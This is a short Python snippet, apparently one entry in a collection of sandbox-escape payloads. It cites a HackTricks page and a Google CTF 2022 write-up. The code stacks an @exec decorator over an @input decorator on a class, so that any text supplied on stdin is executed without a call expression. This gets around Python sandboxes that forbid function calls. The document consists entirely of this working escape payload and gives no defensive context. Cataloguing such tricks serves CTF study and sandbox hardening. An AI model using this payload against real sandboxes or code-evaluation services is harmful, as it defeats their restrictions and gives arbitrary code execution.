# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (RCE with decorators); https://ur4ndom.dev/posts/2022-07-04-gctf-treebox/ (Google CTF 2022 treebox)
# Family: decorator
# What: @exec @input class X: executes whatever stdin supplies without a call expression
@exec
@input
class X:
    pass
